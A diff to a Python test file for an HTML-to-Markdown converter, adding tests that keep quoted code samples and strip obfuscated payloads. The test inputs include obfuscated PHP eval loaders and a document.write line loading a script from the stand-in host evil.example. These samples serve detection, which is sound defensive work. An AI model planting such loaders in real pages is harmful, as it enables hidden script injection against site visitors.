@@ -213,8 +213,50 @@ def test_a_sentence_that_names_a_payloads_call_is_prose_and_kept():
 
 
 def test_report_only_policy_keeps_the_content():
-    markdown, findings, _ = body("ok eval(x)", strip=False)
-    assert findings and "eval(x)" in markdown
+    markdown, findings, _ = body("ok eval(base64_decode('aGVsbG8='))", strip=False)
+    assert findings and "eval(base64\\_decode(" in markdown
+
+
+@pytest.mark.parametrize(
+    ("html", "kept"),
+    [
+        # A security blog's samples (spotthevuln.com's export): code on a variable, PHP written out.
+        (
+            "<blockquote>function comment_text_phpfilter($filterdata) {\neval($filterdata);\n}</blockquote>",
+            "eval($filterdata);",
+        ),
+        ("<p>eval($filterdata);</p>", "eval($filterdata);"),
+        (
+            '<p>&lt;a href="http://www.google.com/search?q=&lt;?php echo $searchword; ?&gt;"&gt;</p>',
+            "<?php echo $searchword; ?>",
+        ),
+        ('<p>document.write("&lt;scr"+"ipt src=x&gt;");</p>', 'document.write("<scr"+"ipt src=x>");'),
+        # A payload the author quoted is the author's: kept where set apart.
+        ("<blockquote>eval(base64_decode('aGVsbG8='));</blockquote>", "eval(base64_decode('aGVsbG8='));"),
+        ("<p>Run <kbd>eval(atob('aGk='))</kbd> in the console.</p>", "eval(atob('aGk='))"),
+    ],
+)
+def test_code_an_author_wrote_as_text_is_kept(html, kept):
+    markdown, findings, _ = body(html)
+    assert findings == []
+    assert kept in markdown.replace("\\", "").replace("&lt;", "<").replace("&gt;", ">")
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "eval(base64_decode('aWYoIWlzc2V0KCRHTE9CQUxTWyJceDYxXDE1Nlx4NjgiXSkpIHsg'));",
+        "eval(gzinflate(str_rot13(base64_decode('rUl6QttJDP2aQs4'))));",
+        "document.write(unescape('%3Cscript%20src%3D%22http%3A//evil.example/x.js%22%3E'));",
+        "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
+        "var s = String.fromCharCode(60, 115, 99, 114, 105, 112, 116, 62);",
+        "x" + "QUJDRA" * 60,
+    ],
+)
+def test_obfuscated_code_left_in_the_text_is_stripped(payload):
+    markdown, findings, _ = body(f"<p>ok</p><p>{payload}</p>")
+    assert [f.kind for f in findings] == ["payload"]
+    assert markdown.strip() == "ok"
 
 
 def test_code_that_shows_eval_is_not_a_payload():
@@ -372,6 +414,24 @@ def test_an_image_in_a_pre_is_kept_as_a_paragraph():
     )
 
 
+def test_what_a_dl_shows_besides_terms_and_definitions_is_kept_in_its_place():
+    # An Elementor demo's gallery page (micare's demo content) is six <dl class=gallery-item><a><img>
+    # with no <dt>: every image was dropped, and nothing said so.
+    items = "".join(
+        f"<dl class='gallery-item'><a href='{OLD}/wp-content/uploads/{n}.jpg'>"
+        f"<img src='{OLD}/wp-content/uploads/{n}.jpg' alt='photo {n}'/></a></dl>"
+        for n in (1, 2)
+    )
+    markdown, _, warnings = body(items + "<p>After.</p>")
+    assert "[![photo 1](/wp-content/uploads/1.jpg)](/wp-content/uploads/1.jpg)" in markdown
+    assert "[![photo 2](/wp-content/uploads/2.jpg)](/wp-content/uploads/2.jpg)" in markdown
+    assert markdown.rstrip().endswith("After.") and warnings == []
+    # Text between terms stays between them, as a paragraph; a plain list is as it was.
+    mixed = body("<dl>Intro <b>text</b><dt>T1</dt><dd>D1</dd>loose<dt>T2</dt><dd>D2</dd></dl>")[0]
+    assert mixed == "Intro **text**\n\nT1\n:   D1\n\nloose\n\nT2\n:   D2\n"
+    assert body("<dl>\n<dt>Term</dt>\n<dd>Def</dd>\n</dl>")[0] == "Term\n:   Def\n"
+
+
 def test_a_definition_holding_a_code_block_keeps_its_lines():
     # An online judge's problem, as a blog copied it: sample input and output in <dd><pre>. The
     # definition was written on one line, the code as an inline span: "``` 1 2 3 -1 ```".
@@ -471,6 +531,26 @@ def test_markup_inside_a_server_highlighted_pre_is_code():
         "</form>\n</body>\n</html>\n```" in markdown
     )
     assert markdown.rstrip().endswith("After.") and not findings
+
+
+def test_codecolorers_code_lang_is_its_code_as_typed():
+    # CodeColorer's <code lang="php"> (spotthevuln.com's export): the sample's <?php, <form> and
+    # echo '<b>' were parsed as markup, cut as injected content, and the rest run into one line.
+    block = (
+        "<p>Before.</p>\n<code lang=\"PHP\">\n<?php if ($a < 3) { echo '<b>hi</b>'; } ?>\n"
+        '<form action="x"><input name="q" onclick="go()"></form>\n</code>\n<p>After.</p>'
+    )
+    markdown, findings, _ = body(block)
+    assert (
+        "```php\n<?php if ($a < 3) { echo '<b>hi</b>'; } ?>\n"
+        '<form action="x"><input name="q" onclick="go()"></form>\n```' in markdown
+    )
+    assert markdown.startswith("Before.") and markdown.rstrip().endswith("After.") and not findings
+    # One line is inline code; escaped="true" code is read as written; one inside a <pre> is the <pre>'s.
+    assert body('<p>Call <code lang="php">strlen($s) < 3</code>.</p>')[0] == "Call `strlen($s) < 3`.\n"
+    escaped = body('<code lang="html" escaped="true">&lt;div&gt;\n  &amp;amp;\n&lt;/div&gt;</code>')[0]
+    assert escaped == "```html\n<div>\n  &amp;\n</div>\n```\n"
+    assert body('<pre lang="php"><code lang="php">a\nb</code></pre>')[0] == "```php\na\nb\n```\n"
 
 
 def test_a_line_break_at_the_end_of_a_link_does_not_escape_its_bracket():
